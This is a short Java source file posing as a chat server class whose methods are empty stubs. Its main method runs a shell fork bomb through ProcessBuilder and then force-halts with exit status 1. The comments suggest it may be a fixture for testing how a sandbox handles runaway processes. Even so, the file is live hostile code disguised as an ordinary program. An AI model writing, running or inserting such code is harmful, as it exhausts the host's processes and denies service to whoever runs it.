// Tries to double its processes again and again.
// Says: the program ended with exit status 1
package chatlab.server;

import java.io.Closeable;
import java.io.IOException;

public final class ChatServer implements Closeable {
    public ChatServer(String host, int port) throws IOException {}

    public void run() {}

    @Override
    public void close() {}

    public static void main(String[] arguments) throws Exception {
        try {
            new ProcessBuilder("/bin/sh", "-c", "bomb() { bomb | bomb & }; bomb; bomb; bomb").start().waitFor();
        } finally {
            Runtime.getRuntime().halt(1);
        }
    }
}
